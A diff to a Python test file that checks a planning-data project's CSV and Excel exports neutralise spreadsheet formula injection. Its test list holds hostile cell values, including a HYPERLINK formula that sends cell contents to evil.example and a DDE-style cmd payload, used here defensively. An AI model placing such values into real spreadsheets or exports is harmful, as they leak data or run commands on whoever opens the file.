@@ -6,12 +6,14 @@ import csv
 import dataclasses
 import io
 import json
+import re
 
 import icalendar
+import openpyxl
 import pytest
 
 from plankb import deadlines, relations
-from plankb.downloads import export, ics
+from plankb.downloads import export, ics, workbook
 from plankb.model import Node, Plan, Report
 from plankb.sources.loader import load_corpus
 from test_loader import FIXTURES
@@ -23,7 +25,8 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"bấm")', "+1+cmd|' /C calc
 
 
 def _rows(text: str) -> list[list[str]]:
-    return list(csv.reader(io.StringIO(text, newline="")))
+    assert text.startswith("\ufeff")  # the byte order mark Excel needs to read UTF-8
+    return list(csv.reader(io.StringIO(text[1:], newline="")))
 
 
 @pytest.mark.parametrize("hostile", HOSTILE)
@@ -47,6 +50,19 @@ def test_csv_text_cells_never_start_a_formula(hostile):
         assert "'" + hostile in cells  # neutralised, not rewritten: the words stay readable
     texts = [t["text"] for t in json.loads(export.plans_json(corpus, rel))["plans"][0]["targets"]]
     assert texts == [hostile]  # the open-data JSON keeps the plan's words verbatim
+    # The workbook, read back as a spreadsheet reads it: every cell from a source is a string,
+    # never a formula, and holds the words as written.
+    book = openpyxl.load_workbook(io.BytesIO(workbook.duties_and_targets(corpus, rel)))
+    for name in ("Nhiệm vụ", "Chỉ tiêu"):
+        cells = [cell for row in book[name].iter_rows(min_row=2) for cell in row]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == []
+        assert hostile in [_ooxml_text(c.value) for c in cells], name
+
+
+def _ooxml_text(value):
+    """A cell's text as Excel reads it: OOXML writes a control character as _xHHHH_ (openpyxl
+    leaves that escape as it is)."""
+    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value) if isinstance(value, str) else value
 
 
 def test_csv_numbers_stay_numbers():
